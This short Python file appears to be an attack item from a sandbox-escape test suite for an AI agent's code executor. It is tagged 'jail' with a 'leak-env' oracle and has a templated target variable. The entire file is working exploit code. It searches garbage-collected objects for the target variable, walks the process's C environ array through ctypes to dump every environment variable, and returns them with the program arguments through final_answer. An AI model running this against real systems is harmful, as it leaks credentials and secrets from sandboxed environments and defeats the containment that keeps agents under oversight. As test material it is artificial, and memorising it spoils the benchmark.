# attack: jail/memory-of-the-zygote
# oracle: leak-env
# imports: ctypes, gc, sys, os
# tools:
# source: own
# note: what the fork brought along: environment, arguments, objects, and the memory below the stack
import ctypes, gc, os, sys
found = [repr(o) for o in gc.get_objects() if isinstance(o, (dict, list, tuple)) and len(repr(type(o))) and "{{ENV_NAME}}" in str(o)[:100000]]
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
i = 0
while environ[i]:
    found.append(environ[i].decode("utf-8", "replace"))
    i += 1
argc, argv = ctypes.c_int(), ctypes.POINTER(ctypes.c_char_p)()
at = ctypes.addressof(environ.contents) if i else 0
final_answer([found, sys.argv, getattr(sys, "orig_argv", None)])
